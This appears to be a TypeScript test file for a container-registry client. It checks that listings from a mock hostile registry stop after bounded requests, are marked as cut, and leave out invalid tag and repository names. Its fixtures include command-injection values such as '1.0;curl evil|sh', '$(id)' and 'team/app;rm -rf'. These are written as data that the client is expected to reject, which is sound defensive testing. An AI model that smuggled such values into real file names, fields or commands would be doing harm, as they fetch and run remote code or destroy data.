// A hostile registry's listings against the real client: tag, catalog and referrers pages that never
// end (each a fresh Link, no new names, or thousands of referrers each), and names no registry may hold (`1.0;curl evil|sh`) that would
// otherwise reach a copied pull command. The listing must end in bounded requests, say it was cut,
// and leave such names out while saying how many.
import { strict as assert } from 'node:assert';
import { MAX_PAGES_WITHOUT_NEW_NAMES, type ListingPage } from '../../src/core/registry/listing';
import { MAX_REFERRERS } from '../../src/core/registry/repository';
import type { RegistrySession } from '../../src/core/registry/session';
import { answerSourceFor } from '../../src/common/registry-answers';
import { HostileRegistry } from '../support/lab/hostile-registry';
import { plainSession } from '../support/lab/lab-helpers';

const json = (value: unknown) => ({
  headers: { 'content-type': 'application/json' },
  body: { kind: 'whole' as const, body: Buffer.from(JSON.stringify(value)) },
});

async function collect(pages: AsyncGenerator<ListingPage>): Promise<ListingPage[]> {
  const all: ListingPage[] = [];
  for await (const page of pages) all.push(page);
  return all;
}

describe("a hostile registry's listings", function () {
  this.timeout(30_000);
  let server: HostileRegistry;
  let session: RegistrySession;

  before(async () => {
    server = await HostileRegistry.start();
    session = plainSession(server.url);
  });

  after(async () => {
    await session?.close();
    await server?.stop();
  });

  const requests = (path: RegExp): number => server.seen.filter((line) => path.test(line)).length;

  it('stops a tag listing whose pages keep linking on without new tags, and says it was cut', async () => {
    server.route({
      method: 'GET',
      path: /^\/v2\/endless\/tags\/list/,
      answer: (n) => ({
        ...json({ name: 'endless', tags: n < 3 ? [`t${n}`] : n % 2 ? [] : ['t0', 't1'] }),
        headers: { 'content-type': 'application/json', link: `</v2/endless/tags/list?n=1000&last=p${n}>; rel="next"` },
      }),
    });
    const pages = await collect(session.registry(server.host).tagPages('endless', { pageSize: 1000 }));
    assert.equal(pages.length, 3 + MAX_PAGES_WITHOUT_NEW_NAMES);
    assert.equal(requests(/\/v2\/endless\/tags\/list/), 3 + MAX_PAGES_WITHOUT_NEW_NAMES);
    assert.deepEqual(
      pages.slice(0, 3).map((p) => p.names),
      [['t0'], ['t1'], ['t2']],
    );
    const last = pages.at(-1)!;
    assert.equal(last.more, false);
    assert.match(last.cut ?? '', /kept pointing at further pages of repository endless that brought no new names; .* may be incomplete\.$/);
    assert.ok(
      pages.slice(0, -1).every((p) => p.more && !p.cut),
      'only the last page says the listing was cut',
    );
  });

  it('gives the editor features a cut tag listing as incomplete, and logs why once, with the names left out', async () => {
    server.route({
      method: 'GET',
      path: /^\/v2\/endless-odd\/tags\/list/,
      answer: (n) => ({
        ...json({ name: 'endless-odd', tags: n === 0 ? ['ok', 'bad;tag'] : [] }),
        headers: { 'content-type': 'application/json', link: `</v2/endless-odd/tags/list?last=p${n}>; rel="next"` },
      }),
    });
    const notes: string[] = [];
    const listing = await answerSourceFor(
      () => session,
      (line) => notes.push(line),
    ).listTags(server.host, 'endless-odd', new AbortController().signal);
    assert.deepEqual(listing, { tags: ['ok'], complete: false });
    assert.equal(notes.length, 2, notes.join('\n'));
    assert.match(notes[0]!, /^127\.0\.0\.1:\d+\/endless-odd: [^ ]+ kept pointing at further pages/);
    assert.match(notes[1]!, /left out 1 of the tags the registry listed, as they are not valid tag names\.$/);
  });

  it('stops an endless catalog the same way', async () => {
    server.route({
      method: 'GET',
      path: /^\/v2\/_catalog/,
      answer: (n) => ({
        ...json({ repositories: [] }),
        headers: { 'content-type': 'application/json', link: `</v2/_catalog?n=1000&last=r${n}>; rel="next"` },
      }),
    });
    const pages = await collect(session.registry(server.host).repositoryPages({ pageSize: 1000 }));
    assert.equal(pages.length, MAX_PAGES_WITHOUT_NEW_NAMES);
    assert.match(pages.at(-1)!.cut ?? '', /further pages of the catalog/);
  });

  it('keeps at most 10,000 referrers of a subject across pages, and says the list was cut', async () => {
    const index = 'application/vnd.oci.image.index.v1+json';
    const page = (n: number) =>
      Buffer.from(
        JSON.stringify({
          schemaVersion: 2,
          mediaType: index,
          manifests: Array.from({ length: 4000 }, (_, i) => ({
            mediaType: 'application/vnd.oci.image.manifest.v1+json',
            digest: `sha256:${(n * 4000 + i).toString(16).padStart(64, '0')}`,
            size: 1,
            artifactType: 'a/b',
          })),
        }),
      );
    server.route({
      method: 'GET',
      path: /^\/v2\/many\/referrers\//,
      answer: (n) => ({
        headers: { 'content-type': index, link: `</v2/many/referrers/sha256:${'a'.repeat(64)}?page=${n}>; rel="next"` },
        body: { kind: 'whole', body: page(n) },
      }),
    });
    const result = await session
      .registry(server.host)
      .repository('many')
      .referrers(`sha256:${'a'.repeat(64)}`);
    assert.equal(result.referrers.length, MAX_REFERRERS);
    assert.equal(result.cut, true);
    assert.equal(requests(/\/v2\/many\/referrers\//), 3);
  });

  it('leaves out tags and repository names outside the Distribution grammar, and counts them', async () => {
    const longest = 'v'.repeat(128);
    server.route({
      method: 'GET',
      path: /^\/v2\/odd\/tags\/list/,
      answer: json({
        name: 'odd',
        tags: ['1.0', '1.0;curl evil|sh', '$(id)', '.hidden', '-x', 'a b', `${longest}`, `${longest}x`, '_ok', 'ünï', 42],
      }),
    });
    const [tags] = await collect(session.registry(server.host).tagPages('odd'));
    assert.deepEqual(tags!.names, ['1.0', longest, '_ok']);
    assert.equal(tags!.leftOut, 7, 'the number (42) is not a name at all and is not counted');
    assert.equal(tags!.more, false);
  });

  it('leaves out catalog names outside the grammar', async () => {
    const other = await HostileRegistry.start();
    const otherSession = plainSession(other.url);
    try {
      other.route({
        method: 'GET',
        path: /^\/v2\/_catalog/,
        answer: json({ repositories: ['team/app', 'Team/App', 'team/app;rm -rf', 'team//app', 'a__b/c--d.e', 'a___b', 'x/'] }),
      });
      const [page] = await collect(otherSession.registry(other.host).repositoryPages());
      assert.deepEqual(page!.names, ['team/app', 'a__b/c--d.e']);
      assert.equal(page!.leftOut, 5);
    } finally {
      await otherSession.close();
      await other.stop();
    }
  });
});
